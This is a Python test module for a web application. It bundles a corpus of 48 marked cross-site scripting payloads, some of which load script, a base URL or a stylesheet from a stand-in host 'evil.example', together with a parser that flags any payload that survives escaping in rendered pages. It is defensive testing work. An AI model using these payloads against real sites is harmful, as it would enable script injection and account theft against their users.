"""A corpus of cross-site scripting payloads, and a checker that finds any that survived escaping.

Every page shows text written by whoever runs a fake profile, so the tests place these payloads in
every field a profile, a message, a report or a decision has, and then read every page. Each
payload carries a marker ``xssNN`` (its number) so a survivor can be traced back to its payload.

The corpus covers: script tags (plain, cased, nested, unclosed), event handlers on HTML and SVG
elements, ``javascript:``/``data:`` URLs (cased, with leading whitespace, entity- and
tab-encoded), SVG and MathML (including a mutation-XSS shape), breakouts from attributes,
textareas, titles and comments, elements that change the page (base, meta refresh, link, form,
object, embed, iframe), CSS (style elements, ``expression()``, ``url(javascript:)``), template
injection for Jinja and other engines, encoded variants (entities, percent-encoding, JS escapes)
and Unicode tricks (right-to-left override, zero-width characters inside a tag name).

:func:`injections` parses a page with :class:`html.parser.HTMLParser` and lists every element or
attribute that could only have come from a payload: event-handler attributes, style attributes,
script with inline content or from elsewhere, dangerous URL schemes, elements no page of ours
uses (iframe, object, embed, base, math, style...), tags or attributes named by a payload, and
template expressions that were evaluated.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from html.parser import HTMLParser


@dataclass(frozen=True)
class Payload:
    n: int
    kind: str
    text: str

    @property
    def marker(self) -> str:
        return f"xss{self.n:02d}"


_RAW: list[tuple[str, str]] = [
    ("script", "<script>alert('xss01')</script>"),
    ("script", "<SCRIPT SRC=//evil.example/xss02.js></SCRIPT>"),
    ("handler", "<img src=x onerror=alert('xss03')>"),
    ("svg", "<svg onload=alert('xss04')>"),
    ("svg", "<svg><script>alert('xss05')</script></svg>"),
    ("mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss06')>"),
    ("url", "<iframe src=\"javascript:alert('xss07')\"></iframe>"),
    ("handler", "<body onload=alert('xss08')>"),
    ("url", "<a href=\"javascript:alert('xss09')\">xss09 link</a>"),
    ("url", "javascript:alert('xss10')"),
    ("url", "JaVaScRiPt:alert('xss11')"),
    ("url", " \tjavascript:alert('xss12')"),
    ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzMTMnKTwvc2NyaXB0Pg== xss13"),
    ("breakout", "\"><script>alert('xss14')</script>"),
    ("breakout", "' onmouseover='alert(\"xss15\")"),
    ("breakout", "\" autofocus onfocus=\"alert('xss16')"),
    ("breakout", "</textarea><script>alert('xss17')</script>"),
    ("breakout", "</title><script>alert('xss18')</script>"),
    ("breakout", "--><script>alert('xss19')</script><!--"),
    ("handler", "<details open ontoggle=alert('xss20')>"),
    ("handler", "<input autofocus onfocus=alert('xss21')>"),
    ("url", "<object data=\"javascript:alert('xss22')\"></object>"),
    ("url", "<embed src=\"javascript:alert('xss23')\">"),
    ("url", "<form action=\"javascript:alert('xss24')\"><button>xss24</button></form>"),
    ("page", '<base href="//evil.example/xss25/">'),
    ("page", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss26\')">'),
    ("css", "<link rel=stylesheet href=//evil.example/xss27.css>"),
    ("css", "<style>body{background:url(\"javascript:alert('xss28')\")}</style>"),
    ("css", "<div style=\"width: expression(alert('xss29'))\">xss29</div>"),
    ("css", "<div style=\"background-image:url(javascript:alert('xss30'))\">xss30</div>"),
    ("template", "tpl{{7*7}}xss31"),
    ("template", "{{ ''.__class__ }}xss32"),
    ("template", "{% for i in range(3) %}xss33{% endfor %}"),
    ("template", "${7*7} #{7*7} <%= 7*7 %> xss34"),
    ("encoded", "&lt;script&gt;alert('xss35')&lt;/script&gt;"),
    ("encoded", "&#60;img src=x onerror=alert('xss36')&#62;"),
    ("encoded", "%3Cscript%3Ealert('xss37')%3C/script%3E"),
    ("encoded", "\\u003cscript\\u003ealert('xss38')\\u003c/script\\u003e"),
    ("script", "<scr<script>ipt>alert('xss39')</scr</script>ipt>"),
    ("handler", "<img src=x onerror=alert('xss40')//"),
    (
        "svg",
        '<svg><a xlink:href="javascript:alert(\'xss41\')"><text x="20" y="20">xss41</text>'
        "</a></svg>",
    ),
    ("svg", "<svg><animate onbegin=alert('xss42') attributeName=x dur=1s>"),
    ("unicode", "\u202e<img src=x onerror=alert('xss43')>gpj.exe"),
    ("unicode", "<scr\u200bipt>alert('xss44')</scr\u200bipt>"),
    ("handler", "<img/src=\"x\"/onerror=alert('xss45')>"),
    ("url", "<a href=\"&#106;avascript:alert('xss46')\">xss46</a>"),
    ("url", "java&#x09;script:alert('xss47')"),
    ("breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss48')>\">"),
]

PAYLOADS: list[Payload] = [Payload(i + 1, kind, text) for i, (kind, text) in enumerate(_RAW)]
assert all(p.marker in p.text for p in PAYLOADS), "every payload carries its marker"

#: payloads meant for URL-valued fields (profile url, websites, photo url)
URL_PAYLOADS = [p for p in PAYLOADS if p.kind == "url" and not p.text.startswith("<")]


def payload(i: int) -> str:
    """The i-th payload, cycling (so any number of fields can each get one)."""
    return PAYLOADS[i % len(PAYLOADS)].text


MARKER = re.compile(r"xss\d\d")

#: elements no page of ours uses: one in a page came from a payload
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "math",
        "mglyph",
        "mtext",
        "style",
        "animate",
        "set",
        "foreignobject",
        "template",
        "noscript",
        "body",
    }
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "ping"}
)
_SCHEME_JUNK = re.compile(r"[\x00-\x20\u200b-\u200d\ufeff]+")


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.attribute_markers: set[str] = set()
        self._in: str | None = None
        self._body_seen = False

    def _problem(self, what: str, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        shown = " ".join(f"{k}={v!r}" for k, v in attrs)[:200]
        self.problems.append(f"{what}: <{tag} {shown}>")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if not re.fullmatch(r"[a-z][a-z0-9-]*", tag) or MARKER.search(tag):
            self._problem("a tag a payload made", tag, attrs)
        if tag == "body":
            if self._body_seen or attrs:
                self._problem("a second or scripted body", tag, attrs)
            self._body_seen = True
        elif tag in FORBIDDEN_ELEMENTS:
            self._problem("an element no page uses", tag, attrs)
        for k, v in attrs:
            self.attribute_markers.update(MARKER.findall(v or ""))
            if k.startswith("on"):
                self._problem("an event handler", tag, attrs)
            if k == "style":
                self._problem("an inline style", tag, attrs)
            if MARKER.search(k) or not re.fullmatch(r"[a-z][a-z0-9:_.-]*", k):
                self._problem("an attribute a payload made", tag, attrs)
            if k in URL_ATTRIBUTES and v is not None:
                url = _SCHEME_JUNK.sub("", v).lower()
                if url.startswith(("javascript:", "vbscript:", "data:text")):
                    self._problem("a script URL", tag, attrs)
                if "evil.example" in url:
                    self._problem("a URL to another origin", tag, attrs)
                if k == "src" and MARKER.search(url):
                    self._problem("a resource a payload names", tag, attrs)
        if tag == "script" and not a.get("src", "").startswith("/static/"):
            self._problem("a script not from /static", tag, attrs)
        if tag == "meta" and not ({"charset", "name"} & set(a)):
            self._problem("a meta element a payload made", tag, attrs)
        if tag == "link" and not a.get("href", "").startswith("/static/"):
            self._problem("a stylesheet or link from elsewhere", tag, attrs)
        if tag == "form" and not a.get("action", "/").startswith("/"):
            self._problem("a form posting elsewhere", tag, attrs)
        if tag in ("script", "style"):
            self._in = tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self._in = None

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in:
            self._in = None

    def handle_data(self, data: str) -> None:
        if self._in == "script" and data.strip():
            self.problems.append(f"inline script content: {data[:120]!r}")
        self.text.append(data)


@dataclass
class Findings:
    problems: list[str]
    #: payload markers shown as text (escaped payloads the page displays), or held as the
    #: value of an attribute (a form field filled in again, quoted and escaped)
    shown: set[str]
    text: str


def injections(html: str) -> Findings:
    """What in ``html`` a payload injected (``problems``), and which payloads it shows as text."""
    f = _Finder()
    f.feed(html)
    f.close()
    text = "".join(f.text)
    problems = list(f.problems)
    if "tpl49xss31" in text or "tpl49xss31" in html:
        problems.append("a template expression was evaluated: {{7*7}} became 49")
    if "class 'str'" in text:
        problems.append("a template expression was evaluated: ''.__class__")
    if "xss33xss33" in text:
        problems.append("a template loop was evaluated")
    return Findings(problems, set(MARKER.findall(text)) | f.attribute_markers, text)
